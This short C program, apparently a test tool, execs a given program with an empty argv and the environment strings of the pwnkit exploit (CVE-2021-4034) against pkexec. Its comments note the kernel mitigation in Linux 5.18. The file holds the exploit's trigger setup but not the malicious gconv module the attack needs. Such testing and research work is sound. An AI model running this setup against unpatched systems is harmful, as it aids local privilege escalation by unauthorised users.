/* argc0 PROGRAM: execve(PROGRAM) with an empty argv (pwnkit, CVE-2021-4034)
 * and the environment pkexec wrote back into: GCONV_PATH and CHARSET. On
 * Linux >= 5.18 the kernel turns the empty argv into argv[0] = "". Exits
 * 126 when the exec itself fails; otherwise PROGRAM's status is ours. */
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char *no_args[] = {NULL};
	char *env[] = {"GCONV_PATH=.", "CHARSET=PWNKIT", "SHELL=pwnkit", "PATH=GCONV_PATH=.", NULL};

	if (argc != 2) {
		fputs("usage: argc0 PROGRAM\n", stderr);
		return 125;
	}
	execve(argv[1], no_args, env);
	perror("argc0: execve");
	return 126;
}
